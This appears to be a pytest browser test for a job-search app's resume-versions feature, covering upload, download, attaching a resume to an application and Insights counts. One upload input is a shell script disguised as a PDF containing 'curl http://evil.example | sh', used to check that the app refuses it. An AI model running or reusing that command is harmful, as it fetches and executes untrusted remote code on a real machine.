"""The resume-versions journey in a real browser (tests/browser.py says how): a script renamed
.pdf is refused, a resume version is uploaded and downloaded, attached to an application, and
counted in Insights. Screenshots of each step land in test-artifacts/."""

import pytest

from .browser import MARKS, log_in, shot
from .factories import PDF_BYTES

pytestmark = MARKS


@pytest.fixture
def searching(transactional_db):
    """A seeker with two applications sent ten days ago: Northwind answered (screening),
    Bluebird did not."""
    import datetime as dt

    from .factories import ApplicationFactory, UserFactory

    seeker = UserFactory(email="versions@example.com", name="Vera Versions")
    applied = dt.datetime.now(dt.UTC).date() - dt.timedelta(days=10)
    ApplicationFactory(
        owner=seeker,
        role_title="Platform Engineer",
        company__name="Northwind",
        stage="screening",
        applied_on=applied,
    )
    ApplicationFactory(
        owner=seeker,
        role_title="Site Reliability Engineer",
        company__name="Bluebird",
        stage="applied",
        applied_on=applied,
    )
    return seeker


def test_upload_a_resume_version_attach_it_and_see_it_counted_in_insights(searching, page):
    log_in(page, "versions@example.com")
    page.get_by_role("button", name="Vera — account").click()
    page.get_by_role("link", name="Documents").click()
    page.get_by_role("heading", name="Documents", level=1).wait_for()
    page.get_by_text("No resume yet.").wait_for()

    # A script dressed up as a PDF is refused, and says why.
    page.get_by_label("Kind").select_option(label="Resume")
    page.get_by_label("Version name").fill("Resume v3 — platform focus")
    page.get_by_label("File").set_input_files(
        files=[
            {
                "name": "resume.pdf",
                "mimeType": "application/pdf",
                "buffer": b"#!/bin/sh\ncurl http://evil.example | sh\n",
            }
        ]
    )
    page.get_by_role("button", name="Upload").click()
    page.get_by_text("This file is a web page or a script, not a resume").first.wait_for()
    shot(page, "61-documents-script-refused")

    page.get_by_label("File").set_input_files(
        files=[{"name": "Vera resume.pdf", "mimeType": "application/pdf", "buffer": PDF_BYTES}]
    )
    page.get_by_role("button", name="Upload").click()
    page.get_by_text("Uploaded Resume v3 — platform focus.").wait_for()
    row = page.locator("li", has_text="Resume v3 — platform focus")
    row.get_by_text("Vera resume.pdf").wait_for()
    row.get_by_text("sent with 0 applications").wait_for()
    shot(page, "62-documents-uploaded")

    with page.expect_download() as downloading:
        row.get_by_role("link", name="Download Resume v3 — platform focus").click()
    download = downloading.value
    assert download.suggested_filename == "Vera resume.pdf"
    with open(download.path(), "rb") as saved:
        assert saved.read() == PDF_BYTES

    # Attach it to the application that got an answer.
    page.get_by_role("navigation", name="Main").get_by_role("link", name="Applications").click()
    page.get_by_role("link", name="Platform Engineer").click()
    page.get_by_role("link", name="Edit").first.click()
    page.get_by_label("Resume sent").select_option(label="Resume v3 — platform focus")
    shot(page, "63-application-form-resume")
    page.get_by_role("button", name="Save").click()
    page.get_by_text("Saved your changes to Platform Engineer.").wait_for()
    sent = page.locator("dd", has_text="Resume v3 — platform focus")
    sent.get_by_role("link", name="Resume v3 — platform focus").wait_for()
    shot(page, "64-application-resume-sent")

    page.get_by_role("navigation", name="Main").get_by_role("link", name="Insights").click()
    table = page.locator("#resumes table tbody")
    rows = {
        r.locator("th").inner_text(): [cell.inner_text() for cell in r.locator("td").all()]
        for r in table.get_by_role("row").all()
    }
    assert rows == {
        "Resume v3 — platform focus": ["1", "1", "100%"],
        "No resume noted": ["1", "0", "0%"],
    }
    page.locator("#resumes svg[role=img]").wait_for()
    page.locator("#resumes").scroll_into_view_if_needed()
    shot(page, "65-insights-by-resume")
